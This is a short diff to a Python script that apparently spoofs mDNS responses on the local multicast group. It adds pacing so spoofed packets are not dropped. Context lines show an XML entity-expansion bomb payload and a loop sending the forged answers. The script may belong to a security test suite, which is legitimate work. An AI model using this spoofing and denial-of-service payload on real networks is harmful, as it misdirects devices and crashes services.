@@ -13,6 +13,7 @@ import random
 import signal
 import socket
 import sys
+import time
 import uuid
 from collections.abc import Callable, Iterator
 from typing import Final
@@ -37,6 +38,8 @@ _MDNS_GROUP: Final = ("224.0.0.251", 5353)
 _FLUSH: Final = _CLASS_IN | _CLASS_UNIQUE
 _TTL_S: Final = 4500
 _PER_PACKET: Final = 5
+_BURST: Final = 20
+_BREATH_S: Final = 0.005
 _XML_BOMB: Final = (
     '<?xml version="1.0"?><!DOCTYPE s:Envelope [<!ENTITY a "aaaaaaaaaa">'
     + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 9)).replace("&a0;", "&a;")
@@ -274,7 +277,9 @@ def main() -> int:
         voice.bind((told.sender, group[1]))
         voice.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, _own())
         voice.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 255)
-        for lie in lies:
+        for number, lie in enumerate(lies):
+            if number % _BURST == _BURST - 1:
+                time.sleep(_BREATH_S)  # noqa: TID251 - a listener's buffer holds about a hundred
             for packet in lie.packets() if isinstance(lie, DNSOutgoing) else [lie]:
                 voice.sendto(packet, group)
     print(json.dumps({"told": told.lie}), flush=True)
